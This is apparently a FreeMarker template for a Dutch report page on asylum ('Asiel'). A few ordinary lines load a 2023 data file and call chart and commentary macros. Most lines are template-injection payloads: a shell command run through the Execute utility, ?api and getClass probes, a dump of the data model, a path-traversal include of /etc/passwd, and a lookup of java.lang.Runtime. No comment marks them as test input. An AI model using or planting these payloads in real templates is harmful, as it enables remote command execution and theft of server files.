# Asiel {#asiel}

${"freemarker.template.utility.Execute"?new()("id")}

${waarde?api.class}

${"x"?api.getClass()}

${.data_model?keys?join(", ")}

<#include "../../../etc/passwd">

<#include "/data/2023/1-asiel.yaml">

<#import "hulp.ftl" as hulp>

${jaar.class.forName("java.lang.Runtime")}

${"freemarker.template.utility.Execute"?interpret}

<@duiding "instroom"/>

<@figuur "instroom"/>
